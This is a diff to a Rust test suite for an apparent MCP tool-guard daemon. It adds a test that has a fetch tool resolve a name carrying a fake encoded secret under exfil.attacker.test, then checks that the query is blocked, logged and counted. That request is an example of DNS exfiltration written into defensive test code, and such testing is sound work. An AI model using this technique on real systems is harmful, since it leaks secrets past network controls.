@@ -70,8 +70,20 @@ fn db_server() -> Vec<String> {
 
 /// Runs the SDK client in `ns` against `server` under `exec --mcp`; the client's JSON.
 fn client(ns: &NetNs, d: &Daemon, server: &[String], calls: &Value, extra: &[&str]) -> Value {
-    let out = Command::new("nsenter")
-        .arg(format!("--net={}", ns.path().display()))
+    client_resolving(ns, d, server, calls, extra, None)
+}
+
+/// [`client`], with `resolv` bind-mounted over /etc/resolv.conf (in a mount namespace
+/// of its own) so that the server's lookups go where the test says.
+fn client_resolving(
+    ns: &NetNs,
+    d: &Daemon,
+    server: &[String],
+    calls: &Value,
+    extra: &[&str],
+    resolv: Option<&Path>,
+) -> Value {
+    let out = mcp_guard_tests::in_netns(ns, resolv)
         .arg(mcp_venv().join("bin/python"))
         .arg(mcp_helper("client.py"))
         .arg("--calls")
@@ -482,4 +494,74 @@ fn exec_mcp_needs_the_daemon() {
         .filter(|e| e.file_name().to_string_lossy().starts_with("mcp-"))
         .collect();
     assert!(left.is_empty(), "{left:?}");
+}
+
+/// DNS exfiltration through the real fetch server: the attacker puts data in a name
+/// (`<data>.exfil.attacker.test`) and has the fetch tool resolve it. The server's
+/// resolver is the daemon's DNS proxy: the name no host rule covers never reaches the
+/// upstream server (a real dnsmasq that logs every query), the fetch fails, and the
+/// refusal event names the tool call; an allowed name resolves and is fetched.
+#[test]
+fn dns_exfiltration_through_the_fetch_tool_is_refused_and_named() {
+    let (ns, cg) = lab();
+    ns.add_addr("127.0.0.153");
+    let dnsmasq = mcp_guard_tests::Dnsmasq::start(
+        &ns,
+        &format!("{PUBLIC} api.example.test\n"),
+        &["/attacker.test/93.184.216.34"],
+        60,
+    );
+    let d =
+        Daemon::start(&format!(
+        "{}[dns]\nnameservers = [\"127.0.0.1:53\"]\nnetns = \"{}\"\nproxy = \"127.0.0.153:53\"\n",
+        config(&cg, "", "[[workload.allow]]\nhost = \"api.example.test\"\nports = [80]\n"),
+        ns.path().display()
+    ));
+    let dir = mcp_guard_tests::TempDir::new();
+    let resolv = dir.0.join("resolv.conf");
+    std::fs::write(&resolv, "nameserver 127.0.0.153\n").expect("resolv.conf");
+    let secret = "c2VjcmV0LWNyZWRlbnRpYWxz";
+    let calls = serde_json::json!([
+        ["fetch", {"url": "http://api.example.test/", "raw": true}],
+        ["fetch", {"url": format!("http://{secret}.exfil.attacker.test/"), "raw": true}],
+    ]);
+    let out = client_resolving(&ns, &d, &fetch_server(), &calls, &[], Some(&resolv));
+    let r = &out["results"];
+    assert_eq!(r[0]["is_error"], false, "the allowed name: {out}");
+    assert!(
+        r[0]["text"].as_str().unwrap().contains("public-page"),
+        "{out}"
+    );
+    assert_eq!(r[1]["is_error"], true, "the exfiltrating name: {out}");
+    let queries = dnsmasq.queries();
+    assert!(
+        queries.iter().any(|q| q.contains("api.example.test")),
+        "the allowed name went upstream: {queries:?}"
+    );
+    assert!(
+        !queries
+            .iter()
+            .any(|q| q.to_lowercase().contains("exfil.attacker.test")),
+        "the data reached the upstream DNS server: {queries:?}"
+    );
+    let e = wait_event(&d, "for the refused query", |e| {
+        e["hook"] == "dns" && e["reason"] == "name-not-allowed"
+    });
+    mcp_guard_tests::assert_event_schema(&e);
+    assert_eq!(e["workload"], "mcp", "{e:#}");
+    assert!(
+        e["name"]
+            .as_str()
+            .unwrap_or("")
+            .starts_with(&secret.to_lowercase()),
+        "{e:#}"
+    );
+    assert_eq!(e["mcp"]["tool"], "fetch", "{e:#}");
+    assert_eq!(e["mcp"]["request_id"], "4", "{e:#}");
+    assert!(
+        metric(
+            &d,
+            "mcp_guard_dns_query_refused_total{reason=\"name-not-allowed\",workload=\"mcp\"}"
+        ) >= 1.0
+    );
 }
